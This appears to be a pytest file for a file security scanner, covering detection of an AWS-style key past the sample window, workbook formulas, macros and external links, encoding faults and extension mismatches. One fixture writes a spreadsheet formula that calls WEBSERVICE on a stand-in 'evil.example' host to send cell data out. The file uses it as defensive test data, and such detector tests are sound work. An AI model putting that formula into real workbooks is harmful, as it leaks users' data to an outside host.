"""The security scan's own findings beyond the text rules (tests/test_workbench_api.py runs a
scan through the job): `quick` reads the sample only and `full` the whole file; a workbook's
formulas, macros and external links; encoding problems; each with where it is."""

from __future__ import annotations

import zipfile
from pathlib import Path

import xlsxwriter

from conveyor.packs.workbench import scan

AWS_KEY = "AKIA" + "Z7Q2X4M9W3K8P5N6"
ALL = list(scan.FRAMEWORKS)


def rules(report: dict[str, object]) -> dict[str, dict[str, object]]:
    return {f["rule"]: f for f in report["findings"]}  # type: ignore[attr-defined,index]


def test_quick_reads_the_first_megabyte_and_full_the_whole_file(tmp_path: Path) -> None:
    path = tmp_path / "app.log"
    line = "2024-05-01T12:00:00Z INFO request served in 12 ms\n"
    lines = scan.SAMPLE_BYTES // len(line) + 100  # the key lies past the sample
    path.write_text(line * lines + f"key={AWS_KEY}\n")

    quick = scan.scan_file(path, full=False, frameworks=ALL)
    assert quick["bytesScanned"] <= scan.SAMPLE_BYTES < quick["fileSize"]
    assert quick["findings"] == [] and {v["verdict"] for v in quick["frameworks"].values()} == {"pass"}

    full = scan.scan_file(path, full=True, frameworks=ALL)
    assert full["bytesScanned"] == full["fileSize"]
    found = rules(full)["secret.aws_access_key"]
    assert (found["line"], found["column"]) == (lines + 1, 5)
    assert AWS_KEY not in str(full) and full["frameworks"]["SOC 2"]["verdict"] == "fail"


def test_a_workbook_with_a_formula_a_macro_and_an_external_link(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet()
    sheet.write_string(0, 0, "name")
    sheet.write_formula(1, 0, '=WEBSERVICE("http://evil.example/?d="&B2)')
    sheet.write_formula(2, 0, "=SUM(B1:B2)")
    workbook.close()
    with zipfile.ZipFile(path, "a") as archive:  # what Excel writes for a macro and a linked book
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
        archive.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")

    report = scan.scan_file(path, full=True, frameworks=ALL)
    formulas = [f for f in report["findings"] if f["rule"] == "danger.spreadsheet_formula"]
    assert [(f["severity"], f["message"]) for f in formulas] == [
        ("critical", "a formula in cell A2 of sheet1.xml"),
        ("high", "a formula in cell A3 of sheet1.xml"),
    ]
    assert formulas[0]["excerpt"].startswith("=WEBSERVICE(")
    assert {"danger.office_macro", "danger.external_link"} <= set(rules(report))
    assert report["fileType"] == "zip" and "filetype.extension_mismatch" not in rules(report)
    assert report["frameworks"]["SOC 2"]["verdict"] == "fail"


def test_encoding_problems_are_found_with_their_offsets(tmp_path: Path) -> None:
    path = tmp_path / "notes.txt"
    path.write_bytes(b"\xef\xbb\xbfhello\nCaf\xe9 au lait\n")
    found = rules(scan.scan_file(path, full=True, frameworks=ALL))
    assert found["encoding.bom"]["offset"] == 0
    assert found["encoding.invalid_utf8"]["offset"] == 12  # the \xe9

    # NUL bytes in the first 8 KB make the file binary (a mismatch for .txt); later, a text
    # file holding NUL bytes
    head = b"x" * 9000 + b"\n"
    path.write_bytes(head + b"nul \x00 here\n")
    found = rules(scan.scan_file(path, full=True, frameworks=ALL))
    assert found["encoding.nul_bytes"]["offset"] == len(head) + 4
    path.write_bytes(b"nul \x00 here\n")
    found = rules(scan.scan_file(path, full=True, frameworks=ALL))
    assert "encoding.nul_bytes" not in found
    assert found["filetype.extension_mismatch"]["message"] == "the extension says .txt but the content is binary"


def test_a_pdf_named_csv_is_a_mismatch_but_not_an_executable(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    path.write_bytes(b"%PDF-1.7\n" + b"\x00" * 64)
    found = rules(scan.scan_file(path, full=False, frameworks=ALL))
    assert found["filetype.extension_mismatch"]["message"] == "the extension says .csv but the content is pdf"
    assert "filetype.executable" not in found
